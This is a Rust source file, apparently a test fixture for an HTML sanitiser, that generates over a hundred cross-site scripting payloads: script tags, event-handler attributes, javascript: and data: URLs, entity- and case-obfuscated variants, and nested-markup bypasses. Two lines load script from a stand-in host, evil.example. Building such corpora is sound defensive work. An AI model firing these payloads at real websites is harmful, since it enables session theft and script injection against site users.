//! A hundred texts that run a script in a browser that shows them as they are.

/// A hundred different ones: tags, handlers, addresses, hidden in entities, case, white space,
/// comments and broken markup.
pub fn script_payloads() -> Vec<String> {
    let mut payloads: Vec<String> = WRITTEN.iter().map(|text| (*text).to_owned()).collect();
    for (number, handler) in HANDLERS.iter().enumerate() {
        let tag = ["p", "div", "b", "a href=https://ok.example", "table", "svg", "video", "input"]
            [number % 8];
        payloads.push(format!("<{tag} {handler}=alert({number})>words</{tag}>"));
        payloads.push(format!("<{tag}/{handler}\n=\"alert&lpar;{number})\" x>words"));
    }
    for address in ADDRESSES {
        payloads.push(format!("<a href=\"{address}\">words</a>"));
        payloads.push(format!("<blockquote cite='{address}'>words</blockquote>"));
        payloads.push(format!("<form action=\"{address}\"><button formaction=\"{address}\">x"));
    }
    assert!(payloads.len() >= 100, "only {} payloads", payloads.len());
    payloads
}

const HANDLERS: &[&str] = &[
    "onclick",
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbeforeinput",
    "OnScRoLlEnD",
    "onwheel",
    "onauxclick",
];

const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://ok.example/0",
    "view-source:javascript:alert(1)",
];

const WRITTEN: &[&str] = &[
    "words<script>alert(1)</script>",
    "words<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "words<script\n>alert(1)</script\n>",
    "words<scr<script>ipt>alert(1)</scr</script>ipt>",
    "words<<script>script>alert(1)<</script>/script>",
    "words<script/x>alert(1)</script>",
    "words<script>alert(1)//",
    "words</title><script>alert(1)</script>",
    "words</textarea><script>alert(1)</script>",
    "words<!--<script>alert(1)--></script>",
    "words<!--><script>alert(1)</script>-->",
    "words<![CDATA[<script>alert(1)</script>]]>",
    "words<?xml version=\"1.0\"?><script>alert(1)</script>",
    "words<img src=x onerror=alert(1)>",
    "words<img/src=`x`onerror=alert(1)>",
    "words<img src=\"x` `<script>alert(1)</script>\"` `>",
    "words<image href=x onerror=alert(1)>",
    "words<svg onload=alert(1)>",
    "words<svg><script>alert&#40;1)</script></svg>",
    "words<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "words<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "words<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
    "words<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "words<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "words<math href=\"javascript:alert(1)\">x</math>",
    "words<iframe src=javascript:alert(1)></iframe>",
    "words<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "words<object data=javascript:alert(1)></object>",
    "words<embed src=javascript:alert(1)>",
    "words<applet code=x></applet>",
    "words<base href=javascript:alert(1)//>",
    "words<link rel=stylesheet href=javascript:alert(1)>",
    "words<link rel=import href=//evil.example>",
    "words<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "words<style>@import 'javascript:alert(1)';</style>",
    "words<p style=\"width:expression(alert(1))\">x</p>",
    "words<p style=\"background:url(javascript:alert(1))\">x</p>",
    "words<template><script>alert(1)</script></template>",
    "words<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "words<select><option><script>alert(1)</script></select>",
    "words<details open ontoggle=alert(1)>x",
    "words<video><source onerror=alert(1)></video>",
    "words<audio src=x onerror=alert(1)>",
    "words<marquee onstart=alert(1)>x</marquee>",
    "words<isindex type=image src=1 onerror=alert(1)>",
    "words<keygen autofocus onfocus=alert(1)>",
    "words<body onload=alert(1)>",
    "words<frameset onload=alert(1)>",
    "words<table background=javascript:alert(1)><tr><td>x</table>",
    "words<a href=https://ok.example ping=javascript:alert(1)>x</a>",
    "words<a href=\"https://ok.example\" target=x onclick=alert(1) style=x>x</a>",
    "words\u{0}<scr\u{0}ipt>alert(1)</script>",
    "words%3Cscript%3Ealert(1)%3C/script%3E<script>alert(1)</script>",
    "words+ADw-script+AD4-alert(1)+ADw-/script+AD4-<script>alert(1)</script>",
];
